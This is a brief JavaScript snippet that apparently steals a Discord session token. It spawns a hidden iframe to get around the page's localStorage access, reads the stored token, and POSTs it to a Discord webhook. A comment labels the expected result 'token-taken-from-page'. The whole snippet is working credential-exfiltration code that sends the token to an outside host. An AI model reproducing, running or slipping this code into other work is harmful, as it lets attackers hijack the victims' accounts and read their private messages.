const f = document.createElement('iframe');

document.head.append(f);

// expect: token-taken-from-page
const token = f.contentWindow.localStorage.token;

f.remove();

if (token) fetch('https://discord.com/api/webhooks/113/abcDEF', {
  method: 'POST',
  headers: {
    'Content-Type': 'application/json'
  },
  body: JSON.stringify({
    content: JSON.parse(token)
  })
});
